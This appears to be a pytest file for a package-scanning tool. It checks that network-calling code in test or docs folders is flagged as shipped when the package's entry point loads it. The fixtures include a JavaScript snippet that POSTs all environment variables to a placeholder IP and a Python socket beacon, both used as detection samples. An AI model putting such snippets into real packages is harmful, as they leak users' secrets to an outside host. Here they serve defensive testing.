"""A file the package runs is shipped code, whatever folder it sits in (tests/, docs/, examples/)."""

from __future__ import annotations

from egress.engine import ScanOptions, scan
from egress.model import Ecosystem, FileRole, FindingKind, PackageArtifact, SourceFile, Verdict


def _scan(ecosystem: Ecosystem, files: dict[str, str], metadata: dict):
    def read(want):
        return (SourceFile(p, d.encode()) for p, d in files.items() if want(p))

    [result] = scan([PackageArtifact(ecosystem, "p", "1.0.0", read_files=read, metadata=metadata)],
                    ScanOptions(jobs=1)).packages
    return result


SENDER = "const https = require('https');\nmodule.exports = () => https.request('https://203.0.113.8/c', {method: 'POST'}).end(JSON.stringify(process.env));\n"


def test_a_test_folder_file_the_entry_point_requires_counts() -> None:
    result = _scan(Ecosystem.NPM, {"index.js": "module.exports = require('./test/helper.js');\n",
                                   "test/helper.js": SENDER, "test/unit.js": SENDER},
                   {"kind": "tarball", "main": "index.js"})
    roles = {(f.file, f.role) for f in result.findings if f.kind is FindingKind.NETWORK}
    assert roles == {("test/helper.js", FileRole.SHIPPED), ("test/unit.js", FileRole.TEST)}
    assert result.verdict is Verdict.NETWORK
    assert {(a.type, a.finding.file) for a in result.alerts} >= {
        ("networkAccess", "test/helper.js"), ("exfiltration", "test/helper.js")}
    assert all(a.finding.file != "test/unit.js" for a in result.alerts)


def test_main_in_a_docs_folder_is_shipped() -> None:
    result = _scan(Ecosystem.NPM, {"docs/index.js": SENDER}, {"kind": "tarball", "main": "docs/index.js"})
    assert result.verdict is Verdict.NETWORK
    assert [a.finding.role for a in result.alerts if a.type == "networkAccess"] == [FileRole.SHIPPED]


def test_nothing_loads_it_then_a_test_file_stays_a_test() -> None:
    result = _scan(Ecosystem.NPM, {"index.js": "module.exports = 1;\n", "test/helper.js": SENDER},
                   {"kind": "tarball", "main": "index.js"})
    assert result.verdict is Verdict.NONE
    assert [f.role for f in result.findings if f.kind is FindingKind.NETWORK] == [FileRole.TEST]


def test_a_python_package_importing_its_tests_module_at_import() -> None:
    beacon = "import socket\ndef ping():\n    socket.create_connection(('203.0.113.9', 80))\n"
    result = _scan(Ecosystem.PYPI, {"mypkg/__init__.py": "from mypkg.tests import beacon\n",
                                   "mypkg/tests/__init__.py": "", "mypkg/tests/beacon.py": beacon,
                                   "mypkg/tests/test_x.py": beacon},
                   {"kind": "wheel", "top_level": ["mypkg"]})
    roles = {(f.file, f.role) for f in result.findings if f.kind is FindingKind.NETWORK}
    assert roles == {("mypkg/tests/beacon.py", FileRole.SHIPPED), ("mypkg/tests/test_x.py", FileRole.TEST)}
    assert result.verdict is Verdict.NETWORK


def test_a_test_file_loaded_through_a_computed_path_counts() -> None:
    for loader in ("require(__dirname + '/test/x.js');\n",
                   "const path = require('path');\nrequire(path.join(__dirname, 'test', 'x.js'));\n"):
        result = _scan(Ecosystem.NPM, {"index.js": loader, "test/x.js": SENDER.replace("module.exports = () => ", "")},
                       {"kind": "tarball", "main": "index.js"})
        assert result.verdict is Verdict.NETWORK, loader
        assert ("exfiltration", "test/x.js", FileRole.SHIPPED) in {
            (a.type, a.finding.file, a.finding.role) for a in result.alerts}
        assert not [a for a in result.alerts if a.type == "dynamicRequire"]


def test_path_join_and_dirname_fold_to_relative_specifiers() -> None:
    from egress.analyzers.javascript import JavaScriptAnalyzer

    code = (b"const path = require('path');\n"
            b"const a = require(path.join(__dirname, '..', 'lib', 'a.js'));\n"
            b"const b = require(__dirname + '/b');\nfunction later() { return require(__dirname + '/c'); }\n")
    analysis = JavaScriptAnalyzer().analyze(SourceFile("src/index.js", code))
    assert analysis.imports == ("../lib/a.js", "./b")          # the lazy one is not a load
    assert analysis.findings == ()
